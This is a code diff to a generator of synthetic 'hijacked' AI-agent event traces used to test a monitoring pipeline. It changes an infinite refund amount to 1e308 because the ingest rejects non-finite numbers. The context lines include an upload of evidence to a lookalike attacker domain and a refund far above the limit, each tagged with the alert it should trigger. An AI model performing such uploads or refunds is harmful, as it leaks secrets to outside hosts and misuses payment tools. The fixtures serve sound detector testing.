@@ -164,7 +164,8 @@ def hijacked(r: random.Random, i: int) -> tuple[str, list[Event], list[str]]:
             call("evidence.upload",
                  destination=f"https://evidence.example.com.{r.choice(['attacker.io', 'x.net'])}/u")], \
             ["argument_out_of_scope", "secret-then-external"]
-    amount = r.randint(20000, 90000) if (i // 10) % 2 else float("inf")  # written `Infinity`, as 1e999 parses
+    # 1e308, not Infinity: the ingest dead-letters NaN and Infinity (non_finite_number, docs/events.md)
+    amount = r.randint(20000, 90000) if (i // 10) % 2 else 1e308
     return "billing-agent-1", [  # a refund far above the limit
         call("billing.lookup_invoice", invoice="INV-7781"),
         call("billing.issue_refund", invoice="INV-7781", amount=amount)], ["argument_out_of_scope"]
